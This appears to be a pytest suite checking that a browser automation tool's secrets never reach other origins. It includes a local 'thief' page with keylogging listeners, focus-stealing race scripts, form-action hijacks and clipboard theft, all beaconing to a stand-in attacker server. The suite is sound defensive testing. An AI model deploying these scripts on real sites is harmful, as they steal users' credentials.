"""A secret stays in the field that was checked, whatever takes the focus meanwhile."""

import pytest

from strap import PolicyDenied, StrapError, testing
from tests.site.server import Reply, serve
from tests.support.browser import ANY_BROWSER
from tests.support.waiting import eventually

pytestmark = pytest.mark.anyio

TOKEN = "Tr0ub4dor-and-three"
FIELDS = """<title>Login</title><form method=post action=/sent>
<input name=user aria-label=User> <input name=pass type=password aria-label=Pass>
<textarea name=note aria-label=Note></textarea><div contenteditable aria-label=Editor></div></form>
<select aria-label=Choice><option>a<option>b</select><script>
let heard = [];
for (const type of ["beforeinput", "input", "change"])
  addEventListener(type, (event) => heard.push(`${type} ${event.target.name}`), true);
addEventListener("input", ({ target }) => {
  navigator.sendBeacon("/got", target.value ?? target.textContent);
}, true);
</script>"""
# The thief has fields of each kind, and sends whatever comes into them.
THIEF = """<!doctype html><title>Thief</title><input id=mine><textarea id=area></textarea>
<div id=host></div><div id=edit contenteditable></div>
<dialog id=box><input id=inner autofocus></dialog>
<iframe id=frame width=500 height=200 src="%s"></iframe><script>
const shadow = host.attachShadow({ mode: "closed" });
shadow.innerHTML = "<input>";
const hidden = shadow.querySelector("input");
const all = () => [mine, area, hidden, inner, ...document.querySelectorAll(".more")];
const held = () => [...all().map((one) => one.value), edit.textContent].join("");
const tell = (text) => { if (text) navigator.sendBeacon("/got", text) };
addEventListener("input", () => tell(held()), true);
addEventListener("beforeinput", ({ data }) => tell(data), true);
addEventListener("keydown", ({ key }) => tell(key.length === 1 && key), true);
setInterval(() => tell(held()), 20);
const inFrame = () => document.activeElement === frame;
%s
</script>"""
FOUR = ("[name=user]", "[name=pass]", "[name=note]", "[contenteditable]")
KINDS = ("beforeinput", "input", "change")
RACES = {
    "blur": "addEventListener('blur', () => mine.focus())",
    "blur, later": "addEventListener('blur', () => setTimeout(() => mine.focus(), 3))",
    "timer": "setInterval(() => mine.focus(), 1)",
    "focus of the frame": """frame.onfocus = () => area.focus();
      setInterval(() => inFrame() && area.focus(), 4)""",
    "focusin": "addEventListener('focusin', (e) => e.target === frame && mine.focus(), true)",
    "shadow root": "addEventListener('blur', () => hidden.focus())",
    "editor": "addEventListener('blur', () => edit.focus())",
    "dialog": "addEventListener('blur', () => { box.close(); box.showModal() })",
    "autofocus": """addEventListener('blur', () => setTimeout(() => {
      const field = document.createElement('input');
      Object.assign(field, { autofocus: true, className: 'more' });
      document.body.prepend(field); field.focus() }))""",
    "pop-up": """addEventListener('blur', () => {
      window.open('/own', 'own', 'width=200'); mine.focus() })""",
    "frame of its own": """const own = document.createElement('iframe');
      own.src = '/own'; document.body.append(own);
      addEventListener('blur', () => own.contentDocument.querySelector('input')?.focus())""",
    "focusout": "addEventListener('focusout', () => setTimeout(() => hidden.focus()), true)",
    "open dialog": "addEventListener('blur', () => { box.show(); inner.focus() })",
    "selection": """setInterval(() => {
      getSelection().selectAllChildren(edit); edit.focus() }, 2)""",
    "goes elsewhere": "addEventListener('blur', () => setTimeout(() => { frame.src = '/own' }, 2))",
}
MOVES = """document.querySelector("[name=user]").onfocus = ({ target }) =>
  frames.other.document.body.append(target)"""
OWN = """<input name=user aria-label=User autofocus><input name=pass>
<textarea name=note></textarea><script>
addEventListener("input", ({ target }) => navigator.sendBeacon("/got", target.value), true);
</script>"""


@pytest.fixture(scope="module")
def bank():
    sandbox = {"Content-Security-Policy": "sandbox allow-scripts allow-forms"}
    own = "<title>Own</title><iframe srcdoc='<input name=user>'></iframe>"
    moved = f"{FIELDS}<iframe name=other src=/blank></iframe><script>{MOVES}</script>"
    routes = {
        "/": FIELDS,
        "/got": "",
        "/sandbox": Reply(headers=sandbox, body=FIELDS),
        "/own": own,
        "/moved": moved,
        "/blank": "<title>Blank</title>",
        "/prompts": "<title>Asks</title><button onclick='said = prompt(`Which?`)'>Ask</button>",
    }
    with serve(routes) as running:
        yield running


@pytest.fixture(scope="module")
def thief(bank):
    page = {f"/{n}": THIEF % (bank, script) for n, script in enumerate(RACES.values())}
    with serve({**page, "/own": OWN, "/got": ""}) as running:
        yield running


@pytest.fixture(scope="module")
async def web(tmp_path_factory, anyio_backend, bank):
    secrets = {"shop": {"value": TOKEN, "origins": [str(bank)]}}
    home = tmp_path_factory.mktemp("home")
    settings = {"browser": ANY_BROWSER}
    async with testing.router(  # without the flow guard, which would refuse most of it sooner
        home=home, network="local", plugins=settings, secrets=secrets, flow="off"
    ) as opened:
        await opened(resource="browser", action="launch")
        yield opened


@pytest.fixture
def page(web, request):
    mine = web.as_caller(request.node.originalname)

    async def call(action, **fields):
        return (await mine(resource="browser", action=action, **fields)).text

    return call


def sent(site):
    """Return what the pages of a site sent it from their fields."""
    return [request.body.decode() for request in site.requests if request.path == "/got"]


async def tried(page, action, selector):
    """Give the secret to a field that may lose its focus; whether it is said to have got it."""
    given = {"fill": {"value": "{{shop}}"}, "type": {"text": "{{shop}}"}}[action]
    try:
        return "ed" in await page(action, selector=selector, **given)
    except StrapError:
        return False


@pytest.mark.parametrize("action", ["fill", "type"])
@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"], ids=["other port", "other site"])
@pytest.mark.parametrize("race", RACES)
async def test_no_page_around_gets_a_secret(page, thief, bank, host, race, action):
    number = list(RACES).index(race)
    await page("navigate", url=f"http://{host}:{thief.port}/{number}")
    said = [await tried(page, action, f"#frame >> {field}") for field in FOUR]
    await page("evaluate", text="fetch('/got', { method: 'POST', body: held() })")
    await eventually(lambda: len(sent(bank)) >= said.count(True))
    stolen, arrived = sent(thief), sent(bank)
    thief.requests.clear()
    bank.requests.clear()
    assert not [each for each in stolen if set(each) & set(TOKEN)], stolen
    assert set(arrived) <= {TOKEN}
    assert said.count(True) == len(FOUR) or race == "goes elsewhere"


async def test_a_page_hears_of_a_secret_as_of_any_text(page, bank):
    await page("navigate", url=f"{bank}/")
    for value in ("plain", "{{shop}}"):
        await page("evaluate", text="heard = []")
        for name in ("user", "pass", "note"):
            await page("fill", selector=f"[name={name}]", value=value)
        await page("press", selector="[name=user]", key="Tab")
        heard = await page("evaluate", text="heard.join()")
        expected = [f"{kind} {name}" for name in ("user", "pass", "note") for kind in KINDS]
        assert heard.splitlines()[0].strip('"').split(",") == expected, value


async def test_no_document_without_an_origin_gets_a_secret(page, bank):
    await page("navigate", url=f"{bank}/sandbox")
    for action, field in (("fill", "value"), ("type", "text")):
        for selector in ("[name=user]", "[name=pass]", "select"):
            with pytest.raises(PolicyDenied, match="'shop' is not for 'a sandboxed document"):
                await page(action, selector=selector, **{field: "{{shop}}"})


async def test_a_frame_without_an_address_has_the_origin_of_its_page(page, bank):
    await page("navigate", url=f"{bank}/own")
    assert "Filled" in await page("fill", selector="iframe >> input", value="{{shop}}")


FORMS = {
    "action": "<form action=AWAY><input name=user></form>",
    "formaction": "<form><input name=user><button formaction=AWAY>Go</button></form>",
    "by its id": "<form id=f action=AWAY></form><input name=user form=f>",
    "hidden by a field": "<form action=AWAY><input name=user><input name=action></form>",
    "hidden method": "<form action=AWAY><input name=user><input name=getAttribute></form>",
    "get": "<form method=get action=AWAY><input name=user></form>",
    "frame": "<form action=AWAY target=f><input name=user></form><iframe name=f></iframe>",
    "window": "<form method=post action=AWAY target=_blank><input name=user></form>",
    "image": "<form><input name=user><input type=image formaction=AWAY formtarget=_blank></form>",
    "hidden base": "<img name=baseURI><form action=AWAY><input name=user></form>",
    "base": "<base href=AWAY><form action=/got><input name=user></form>",
    "on input": """<form><input name=user></form><script>const [form] = document.forms;
      form.oninput = () => form.setAttribute('action', 'AWAY')</script>""",
}


@pytest.mark.parametrize("action", ["fill", "type"])
@pytest.mark.parametrize("form", FORMS)
async def test_a_form_that_posts_elsewhere_gets_no_secret(page, bank, thief, form, action):
    shown = FORMS[form].replace("AWAY", f"{thief}/got")
    await page("navigate", url=f"{bank}/blank")
    await page("evaluate", text=f"document.open(); document.write({shown!r}); document.close(); 0")
    field = {"fill": "value", "type": "text"}[action]
    with pytest.raises(PolicyDenied, match=f"sends the secret to '{thief}'"):
        await page(action, selector="[name=user]", **{field: "{{shop}}"})
    held = await page("evaluate", text="document.querySelector('[name=user]').value")
    assert held.startswith('""')
    assert "Filled" in await page("fill", selector="[name=user]", value="Ada")


@pytest.mark.parametrize("method", ["get", "post", "post target=f", "post target=_blank"])
async def test_a_form_that_is_led_elsewhere_as_it_is_sent_is_told(page, bank, thief, method):
    shown = f"""<form method={method}><input name=user><button>Go</button></form>
      <iframe name=f src=/blank></iframe><script>const [form] = document.forms;
      form.onsubmit = () => form.setAttribute('action', '{thief}/got')</script>"""
    await page("navigate", url=f"{bank}/blank")
    await page("evaluate", text=f"document.open(); document.write({shown!r}); document.close(); 0")
    await page("fill", selector="[name=user]", value="{{shop}}")
    told = [await page("click", selector="button"), await page("list_pages")]
    told += [await page("snapshot", target_id=each.split()[0]) for each in told[1].splitlines()]
    assert f"The page sent the secret 'shop' to '{thief}', which it is not for." in "".join(told)


async def test_a_file_that_shows_a_secret_and_an_address_that_has_it_are_told(page, bank):
    await page("navigate", url=f"{bank}/own")
    form = "<form><input name=user><button>Go</button></form><p>PART</p>"
    for shows in (False, True):
        shown = form.replace("PART", TOKEN if shows else "no value")
        write = f"document.open(); document.write({shown!r}); document.close(); 0"
        await page("evaluate", text=write)
        await page("fill", selector="[name=user]", value="{{shop}}")
        told = await page("pdf", output="page.pdf")
        assert ("The file shows the value of the secret 'shop'." in told) == shows
    told = await page("click", selector="button")
    assert "The secret 'shop' is in the address, which the history keeps." in told
    assert TOKEN not in told


SECOND = "127.0.0.1", "localhost"


async def test_a_form_may_post_to_each_origin_of_a_secret(tmp_path, bank, thief):
    accounts = str(thief).replace(*SECOND)
    secrets = {"both": {"value": TOKEN, "origins": [str(bank), accounts]}}
    tables = {"browser": ANY_BROWSER}
    shown = f"<form method=post action={accounts}/got><input name=user><button>Go</button></form>"
    async with testing.router(
        home=tmp_path, network="local", plugins=tables, secrets=secrets
    ) as own:
        thief.requests.clear()
        await own(resource="browser", action="launch")
        await own(resource="browser", action="navigate", url=f"{bank}/blank")
        write = f"document.open(); document.write({shown!r}); document.close(); 0"
        await own(resource="browser", action="evaluate", text=write)
        filled = {"selector": "[name=user]", "value": "{{both}}"}
        assert "Filled" in (await own(resource="browser", action="fill", **filled)).text
        told = await own(resource="browser", action="click", selector="button")
        assert "sent the secret" not in told.text
        assert sent(thief) == [f"user={TOKEN}"]


@pytest.mark.parametrize("action", ["fill", "type"])
async def test_a_field_that_moves_into_another_document_gets_none(page, bank, action):
    bank.requests.clear()
    await page("navigate", url=f"{bank}/moved")
    assert not await tried(page, action, "[name=user]")
    held = "frames.other.document.querySelector('input').value"
    assert (await page("evaluate", text=held)).startswith('""')
    assert not sent(bank)


async def test_keys_and_prompts_take_a_name_as_it_is(page, bank):
    await page("navigate", url=f"{bank}/prompts")
    await page("click", selector="button")
    await page("dialog", value="accept", text="{{shop}}")
    assert (await page("evaluate", text="said.length")).startswith("8")
    with pytest.raises(StrapError):
        await page("press", selector="button", key="{{shop}}")


PARTS = [TOKEN[at : at + 3] for at in range(len(TOKEN) - 2)]
COPIES = {
    "copy": ("Control+A", "Control+C"),
    "cut": ("Control+A", "Control+X"),
    "insert": ("Control+A", "Control+Insert"),
    "delete": ("Control+A", "Shift+Delete"),
}


@pytest.mark.parametrize("field", FOUR)
@pytest.mark.parametrize("keys", COPIES.values(), ids=COPIES)
async def test_no_key_copies_a_secret(page, bank, thief, field, keys):
    await page("navigate", url=f"{bank}/")
    await page("fill", selector=field, value="{{shop}}")
    await page("press", selector=field, key=" ".join(keys))
    await pasted(page, thief)


async def pasted(page, thief):
    """Paste what was copied at another site, which gets nothing of the secret."""
    await page("navigate", url=f"http://localhost:{thief.port}/own")
    thief.requests.clear()
    for key in ("Control+V", "Shift+Insert"):
        await page("press", selector="[name=note]", key=key)
    await page("press", selector="[name=note]", key="z")
    held = await page("evaluate", text="document.querySelector('[name=note]').value")
    assert "z" in held
    assert not [each for each in (held, *sent(thief)) if any(map(each.__contains__, PARTS))]


@pytest.mark.parametrize("field", FOUR)
async def test_no_selection_of_a_page_copies_a_secret(page, bank, thief, field):
    await page("navigate", url=f"{bank}/")
    await page("fill", selector=field, value="{{shop}}")
    await page("evaluate", text="getSelection().selectAllChildren(document.body)")
    await page("press", key="Control+C")
    await pasted(page, thief)


async def test_what_is_no_secret_is_copied(page, bank, thief):
    await page("navigate", url=f"{bank}/")
    await page("fill", selector="[name=pass]", value="{{shop}}")
    await page("fill", selector="[name=user]", value="Ada")
    await page("press", selector="[name=user]", key="Control+A Control+C")
    await page("navigate", url=f"{thief}/own")
    await page("press", selector="[name=note]", key="Control+V")
    held = await page("evaluate", text="document.querySelector('[name=note]').value")
    assert held.startswith('"Ada"')
